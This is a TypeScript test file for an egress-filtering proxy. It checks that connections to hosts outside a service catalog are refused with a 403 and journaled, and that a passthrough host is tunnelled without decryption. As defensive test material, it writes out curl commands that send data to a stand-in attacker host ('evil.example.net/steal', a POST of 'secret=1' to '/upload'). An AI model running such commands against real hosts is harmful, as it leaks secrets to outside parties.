import test from 'ava';
import { connect, createServer, type Server } from 'node:net';
import { once } from 'node:events';
import tls from 'node:tls';
import { readClientHello } from '../proxy/client-hello.js';
import { guardNetwork, type NetGuard } from './helpers/proxy-net-guard.js';
import { startProxiedWorld, type ProxiedWorld } from './helpers/proxy.js';
import { nodeClient, run } from './helpers/proxy-processes.js';

// Hosts outside the catalog: a 403 naming the host, a `blocked` journal entry, and no socket
// beyond loopback. Passthrough hosts: tunnelled raw, nothing decrypted, nothing journaled.

let guard: NetGuard;
let w: ProxiedWorld;
let passthroughTarget: Server;
const tunnelled: { host: string; port: number; bytes: Buffer }[] = [];

test.before(async () => {
  guard = guardNetwork();
  // The passthrough "internet": a loopback server that answers whatever comes through the tunnel.
  passthroughTarget = createServer((socket) => {
    const record = tunnelled.at(-1)!;
    socket.on('data', (chunk: Buffer) => {
      record.bytes = Buffer.concat([record.bytes, chunk]);
      if (chunk.toString('latin1').startsWith('ping')) socket.end('pong from the real host');
      if (chunk[0] === 0x16) socket.end(); // a ClientHello: seen, then hang up
    });
    socket.on('error', () => {});
  });
  passthroughTarget.listen(0, '127.0.0.1');
  await once(passthroughTarget, 'listening');
  const targetPort = (passthroughTarget.address() as { port: number }).port;
  w = await startProxiedWorld({
    passthrough: ['api.anthropic.com'],
    proxy: {
      connect: (host, port) => {
        tunnelled.push({ host, port, bytes: Buffer.alloc(0) });
        return connect(targetPort, '127.0.0.1');
      },
    },
  });
  w.tracker.register('github');
  w.tracker.markReady('github');
});
test.after.always(async () => {
  await w?.close();
  passthroughTarget?.close();
  guard?.restore();
});

const lastSeq = async () => (await w.entries()).at(-1)?.seq ?? 0;
const since = async (seq: number) => (await w.entries()).filter((e) => e.seq > seq);

/** Sends `text` on a raw connection to `port` and reads until the peer closes. */
async function exchange(port: number, text: string): Promise<string> {
  const socket = connect(port, '127.0.0.1');
  socket.end(text);
  let reply = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => { reply += chunk; });
  await once(socket, 'close');
  return reply;
}

test.serial('CONNECT to a host outside the catalog: 403 naming the host and the fix, journaled as blocked with the client', async (t) => {
  const before = await lastSeq();
  const credential = new URL(w.urlFor('github'));
  const basic = Buffer.from(`${credential.username}:${credential.password}`).toString('base64');
  const reply = await exchange(w.served.proxy.port, `CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\nProxy-Authorization: Basic ${basic}\r\n\r\n`);
  t.regex(reply, /^HTTP\/1\.1 403 Forbidden\r\n/);
  t.regex(reply, /example\.com is not in the catalog/);
  t.regex(reply, /catalog\/services\.toml/);
  const [entry] = await since(before);
  t.like(entry, {
    host: 'example.com', service: null, method: 'CONNECT', target: 'example.com:443', response: { status: 403 },
    attribution: { kind: 'blocked', client: 'github' },
  });
  // The credential never reaches the journal.
  t.deepEqual(entry!.request.headers, [['Host', 'example.com:443']]);
});

test.serial('curl (CONNECT and absolute-form), the Node preload and transparent TLS are all refused and journaled', async (t) => {
  const before = await lastSeq();
  const connectCurl = await run('curl', ['-sS', '-x', w.urlFor('github'), '--cacert', w.caPath, 'https://evil.example.net/steal']);
  t.is(connectCurl.code, 56);
  t.regex(connectCurl.stderr, /CONNECT tunnel failed, response 403/);

  const plainCurl = await run('curl', ['-sS', '-x', w.proxyUrl, '-d', 'secret=1', 'http://evil.example.net/upload?x=1']);
  t.is(plainCurl.code, 0);
  t.regex(plainCurl.stdout, /evil\.example\.net is not in the catalog/);

  const { results } = await nodeClient(w.urlFor('github'), w.caPath, ['https-outside', 'fetch-outside']);
  t.regex(String(results[0]!.error), /refused CONNECT example\.com:443 \(403\): .*not in the catalog/);
  t.truthy(results[1]!.error); // undici reports a failed tunnel without the body

  const openssl = await run('sh', ['-c', `openssl s_client -connect 127.0.0.1:${w.tlsPort} -servername evil.example.net </dev/null`]);
  t.not(openssl.code, 0);
  t.regex(openssl.stderr, /unrecognized name/);

  const entries = await since(before);
  t.deepEqual(entries.map((e) => [e.method, e.host, e.target, e.response.status, e.attribution?.kind, e.attribution?.client]), [
    ['CONNECT', 'evil.example.net', 'evil.example.net:443', 403, 'blocked', 'github'],
    ['POST', 'evil.example.net', '/upload?x=1', 403, 'blocked', null],
    ['CONNECT', 'example.com', 'example.com:443', 403, 'blocked', 'github'],
    ['CONNECT', 'example.com', 'example.com:443', 403, 'blocked', 'github'],
    ['CONNECT', 'evil.example.net', 'evil.example.net:443', 403, 'blocked', null],
  ]);
  t.is(Buffer.from(entries[1]!.request.body).toString(), 'secret=1');
  t.true(entries.every((e) => e.service === null));
});

test.serial('a passthrough host is tunnelled raw over CONNECT and by SNI: nothing decrypted, nothing journaled', async (t) => {
  const before = await lastSeq();
  const socket = connect(w.served.proxy.port, '127.0.0.1');
  socket.write('CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n');
  let reply = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => {
    reply += chunk;
    if (reply.endsWith('\r\n\r\n')) socket.write('ping through the tunnel');
  });
  await once(socket, 'close');
  t.is(reply, 'HTTP/1.1 200 Connection Established\r\n\r\npong from the real host');
  t.like(tunnelled.at(-1), { host: 'api.anthropic.com', port: 443 });
  t.is(tunnelled.at(-1)!.bytes.toString(), 'ping through the tunnel');

  // Transparent: the ClientHello goes through untouched (the "real host" then hangs up).
  const client = tls.connect({ port: w.tlsPort, host: '127.0.0.1', servername: 'api.anthropic.com' });
  await new Promise((resolve) => client.on('error', () => {}).once('close', resolve));
  t.like(tunnelled.at(-1), { host: 'api.anthropic.com', port: 443 });
  t.deepEqual(readClientHello(tunnelled.at(-1)!.bytes), { kind: 'hello', sni: 'api.anthropic.com' });

  t.deepEqual(await since(before), []);
});

test.serial('no socket left loopback and no name was resolved while serving all of the above', (t) => {
  t.true(guard.connections.length > 0, 'the guard saw the passthrough connections');
  t.deepEqual(guard.outside(), []);
  t.deepEqual(guard.outsideLookups(), []);
});
